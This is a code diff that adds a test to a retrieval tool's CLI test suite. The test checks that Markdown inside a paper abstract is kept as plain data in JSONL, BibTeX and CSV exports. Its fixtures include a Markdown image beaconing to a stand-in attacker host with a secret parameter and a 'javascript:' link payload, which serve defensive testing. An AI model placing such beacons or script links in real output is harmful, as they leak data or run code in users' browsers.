@@ -218,6 +218,20 @@ def test_rag_export_jsonl_bibtex_csv_carry_nothing_active(cli: CLI, tmp_path: Pa
             assert back["evil-01"].title == HOSTILE[0]["title"]
 
 
+def test_markdown_inside_an_abstract_is_data_in_exports(cli: CLI, tmp_path: Path) -> None:
+    """Issue 37 item 14, decided: JSONL, BibTeX and CSV exports are data for other tools (and `rag index` reads them
+    back), so a Markdown image or link written inside an abstract stays as the text it is there; no export format
+    renders Markdown. Where text is rendered (`rag ask --format markdown`, the UI) it is made inert: the tests above."""
+    image, link = "![chart](http://evil.example/beacon.png?d=secret)", "[our site](javascript:alert(9))"
+    for fmt in ("jsonl", "bibtex", "csv"):
+        code, out, err = cli("export", "--format", fmt)
+        assert code == 0, err
+        path = tmp_path / f"back.{'bib' if fmt == 'bibtex' else fmt}"
+        path.write_text(out, encoding="utf-8")
+        abstract = {p.id: p for p in read_papers([path])}["evil-01"].abstract
+        assert image in abstract and link in abstract, (fmt, abstract)  # kept verbatim: data
+
+
 # ---- the UI's Copy, Export conversation and Copy BibTeX
 
 
